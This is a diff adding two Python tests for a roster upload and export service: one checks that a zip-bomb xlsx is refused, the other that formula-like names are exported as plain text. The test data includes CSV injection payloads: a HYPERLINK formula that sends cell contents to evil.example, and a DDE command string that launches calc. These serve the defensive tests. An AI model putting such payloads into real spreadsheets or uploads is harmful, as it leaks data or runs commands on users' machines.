@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 from typing import Any
@@ -305,3 +306,55 @@ async def test_strength_flags_teams_below_the_plans_minimum(world: World) -> Non
     }
     assert report["弱队"]["full_units"] == 1
     assert [u["members"] for u in report["弱队"]["units"]] == [4, 3, 3]
+
+
+async def test_a_workbook_that_unpacks_past_the_cap_is_refused_before_it_is_read(
+    world: World,
+) -> None:
+    team = await world.team("fixed_post", name="银湖驻点应急联防队")
+    packed = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(xlsx(full_team(team["name"])))) as source,
+        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb,
+    ):
+        for info in source.infolist():
+            bomb.writestr(info, source.read(info.filename))
+        # 70 MB of one letter deflates to some 70 KB: well under the upload cap.
+        bomb.writestr("xl/padding.xml", b"A" * (70 * 1024 * 1024))
+    assert len(packed.getvalue()) < world.runtime.settings.max_upload_bytes
+    reply = await upload(world, packed.getvalue())
+    assert reply.status_code == 413, reply.text
+    assert reply.json()["error"] == "too_large" and "unpacks to" in reply.json()["detail"]
+    admin = await world.admin()
+    assert (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json() == []
+
+
+async def test_names_that_look_like_formulas_are_exported_as_text(world: World) -> None:
+    team = await world.team("fixed_post", name="银湖驻点应急联防队")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    rows = [
+        member(1, team["name"], "", formula, "队长", "13800138000"),
+        member(2, team["name"], "", "@SUM(1)", "队员", "13900139000", site="-cmd|' /C calc'!A0"),
+    ]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([HEADER, *rows])
+    reply = await upload(world, buffer.getvalue().encode())
+    assert reply.status_code == 200, reply.text
+    admin = await world.admin()
+    reply = await world.http.get(
+        "/api/v1/rosters/export", params={"kind": "emergency"}, headers=admin.headers
+    )
+    sheet = load_workbook(io.BytesIO(reply.content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows(min_row=3) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert formula in [c.value for c in cells]
+    reply = await world.http.get(
+        "/api/v1/rosters/export",
+        params={"kind": "emergency", "format": "csv"},
+        headers=admin.headers,
+    )
+    rows_out = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
+    names = {r[3] for r in rows_out[1:]}
+    assert names == {"'" + formula, "'@SUM(1)"}
+    assert "'-cmd|' /C calc'!A0" in {r[7] for r in rows_out[1:]}
+    assert "13800138000" in {r[5] for r in rows_out[1:]}, "numbers stay as they are"
